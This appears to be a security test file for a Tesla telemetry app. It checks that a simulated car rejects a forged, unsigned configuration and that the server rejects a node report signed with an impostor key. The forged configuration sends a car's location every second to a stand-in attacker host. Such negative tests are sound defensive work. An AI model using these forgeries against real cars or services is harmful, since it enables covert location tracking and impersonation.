/** Two forgeries that must not work: a configuration nobody's key signed, and a node's report. */
import { generateKeyPair, SignJWT } from "jose";
import type { Stack } from "../simulator/stack.ts";

/** A car of the second owner: the path of the first one is not disturbed. */
const VICTIM = "7SAYTELLTALE00004";
const SIGNATURE_BYTES = 96;

/** Throws when a car that trusts our key takes a configuration whose signature is made up. */
export async function forgeConfiguration(stack: Stack): Promise<void> {
  const { world } = stack;
  const [registration] = world.state.registrations;
  if (registration === undefined) throw new Error("the app is not registered with the local Tesla");
  const { clientId, publicKeyHex } = registration;
  world.pairKey(VICTIM, publicKeyHex, clientId);
  const claims = {
    hostname: "telemetry.attacker.localhost",
    port: stack.ports.nodeCars,
    ca: "none",
    fields: { Location: { interval_seconds: 1 } },
    aud: "com.tesla.fleet.TelemetryClient",
    iss: Buffer.from(publicKeyHex, "hex").toString("base64"),
  };
  const segments = [{ alg: "Tesla.SS256", typ: "JWT" }, claims].map((part) =>
    Buffer.from(JSON.stringify(part)).toString("base64url"),
  );
  const signature = Buffer.alloc(SIGNATURE_BYTES, 7).toString("base64url");
  world.pushConfig(VICTIM, clientId, [...segments, signature].join("."));
  const taken = world.deliverConfigs(VICTIM);
  world.removeConfig(VICTIM, clientId);
  world.deliverConfigs(VICTIM);
  world.removeKey(VICTIM);
  if (taken !== null) throw new Error("a car took a configuration with a forged signature");
}

/** Throws when the Worker takes a report that names our node but is signed by another key. */
export async function forgeReport(stack: Stack): Promise<void> {
  const { privateKey } = await generateKeyPair("ES256");
  const body = await new SignJWT({ aud: stack.urls.app, v: 1 })
    .setProtectedHeader({
      alg: "ES256",
      typ: "telltale-node-report+jwt",
      kid: stack.secrets.nodeKey.kid,
    })
    .sign(privateKey);
  const response = await fetch(`${stack.urls.app}/node/report`, {
    method: "POST",
    headers: { "content-type": "application/jose" },
    body,
  });
  await response.body?.cancel();
  if (response.status !== 401) throw new Error(`a forged report was answered ${response.status}`);
}
